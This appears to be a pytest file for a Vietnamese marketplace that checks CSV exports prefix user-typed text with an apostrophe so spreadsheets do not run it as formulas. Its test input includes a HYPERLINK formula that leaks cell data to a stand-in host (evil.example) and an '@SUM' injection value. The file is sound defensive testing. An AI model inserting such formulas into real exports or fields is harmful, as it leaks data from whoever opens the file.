"""The operator's CSV exports write buyer-, producer- and operator-typed text so that a spreadsheet
never runs it as a formula (issue 9, finding 8); amounts stay numbers."""

from __future__ import annotations

import csv
import io

from orders_testlib import deliver_long_ago, payment_code
from sqlalchemy import select

from marketplace.extensions import db
from orders.models import Order
from tests.support import sign_in

FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Xem")'


def _rows(response) -> list[dict]:
    assert response.status_code == 200 and response.mimetype == "text/csv"
    text = response.get_data(as_text=True)
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"), newline="")))


def test_order_export_neutralises_typed_cells(app, factory, shopper):
    shop = factory.shop(name="@Cửa hàng")
    listing = factory.listing(shop=shop, stock=5, price=100_000)
    assert shopper.add(listing, 1).status_code == 302
    code = payment_code(
        shopper.checkout("cod", receiver_name=FORMULA, address_line="+84 Thôn 2", receiver_phone="0912345678")
    )
    operator = sign_in(app.test_client(), factory.operator())
    [row] = _rows(operator.get("/quan-tri/don-hang.csv"))
    assert row["code"] == f"{code}-1"
    assert row["receiver_name"] == "'" + FORMULA
    assert row["address"] == "'+84 Thôn 2"
    assert row["shop"] == "'@Cửa hàng"
    assert row["total_vnd"] == "125000"


def test_settlement_export_neutralises_typed_cells_and_keeps_negative_amounts(app, factory, shopper):
    listing = factory.listing(stock=5, price=300_000)
    assert shopper.add(listing, 1).status_code == 302
    code = payment_code(shopper.checkout("bank_transfer"))
    operator = sign_in(app.test_client(), factory.operator())
    operator.post(f"/quan-tri/thanh-toan/{code}/xac-nhan", data={"reference": "FT7"})
    deliver_long_ago(db.session.scalar(select(Order).where(Order.code == f"{code}-1")))
    operator.post(
        "/quan-tri/doi-soat/chi-tra",
        data={"shop_id": listing.shop.id, "amount_vnd": "200.000", "reference": "@SUM(A1)", "note": FORMULA},
    )
    rows = _rows(operator.get("/quan-tri/doi-soat.csv"))
    payout = next(r for r in rows if r["kind"] == "payout")
    assert payout["reference"] == "'@SUM(A1)" and payout["note"] == "'" + FORMULA
    assert payout["amount_vnd"] == "-200000"  # ours, an int: written as a number
    assert sorted(int(r["amount_vnd"]) for r in rows) == [-200_000, 325_000]
